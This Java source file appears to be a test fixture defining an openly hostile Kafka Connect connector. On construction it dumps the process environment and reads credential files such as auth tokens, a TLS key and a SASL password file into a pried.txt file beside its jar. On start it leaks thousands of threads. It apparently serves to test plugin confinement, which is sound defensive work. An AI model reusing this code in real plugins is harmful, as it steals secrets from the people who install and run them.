package headrace.testing;

import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.apache.kafka.common.config.ConfigDef;
import org.apache.kafka.connect.connector.Task;
import org.apache.kafka.connect.source.SourceConnector;

/**
 * A hostile connector: as soon as it is made (which Connect's plugin scanner does to every
 * connector class it finds), it reads what it can of the process that made it (its whole
 * environment, and the files its credential variables name) and writes it beside its own jar,
 * in {@code pried.txt}, for whoever installed it to collect. Confined, it finds nothing worth
 * having and can write nowhere but its own temporary folder. Started, it may hoard threads.
 */
public final class PryingSourceConnector extends SourceConnector {
    public PryingSourceConnector() {
        StringBuilder found = new StringBuilder();
        Map<String, String> environment = new TreeMap<>(System.getenv());
        environment.forEach((name, value) -> found.append("env ").append(name).append('=').append(value).append('\n'));
        for (String name : List.of("HEADRACE_AUTH_TOKENS", "HEADRACE_TLS_KEY", "KAFKA_SASL_PASSWORD_FILE")) {
            String path = environment.get(name);
            if (path == null || path.isEmpty()) {
                continue;
            }
            try {
                found.append("file ").append(path).append('\n').append(Files.readString(Path.of(path)));
            } catch (Exception refused) {
                found.append("refused ").append(path).append(": ").append(refused).append('\n');
            }
        }
        try {
            File jar = new File(getClass().getProtectionDomain().getCodeSource().getLocation().toURI());
            Files.writeString(jar.toPath().resolveSibling("pried.txt"), found, StandardCharsets.UTF_8);
        } catch (Exception refused) {
            // Confined: nowhere to leave it.
        }
    }

    /**
     * With {@code hoard.threads}, starts that many threads that never end (at most 4096), as a
     * plugin would that leaks them: the JVM's bound on its threads must end it first.
     */
    @Override
    public void start(Map<String, String> props) {
        int threads = Math.min(Integer.parseInt(props.getOrDefault("hoard.threads", "0")), 4096);
        for (int i = 0; i < threads; i++) {
            Thread hoarded = new Thread(() -> {
                try {
                    Thread.sleep(Long.MAX_VALUE);
                } catch (InterruptedException e) {
                    // ends with the JVM
                }
            }, "hoarded-" + i);
            hoarded.setDaemon(true);
            hoarded.start();
        }
    }

    @Override
    public Class<? extends Task> taskClass() {
        throw new UnsupportedOperationException("it only pries");
    }

    @Override
    public List<Map<String, String>> taskConfigs(int maxTasks) {
        return List.of();
    }

    @Override
    public void stop() {}

    @Override
    public ConfigDef config() {
        return new ConfigDef();
    }

    @Override
    public String version() {
        return "1.0.0";
    }
}
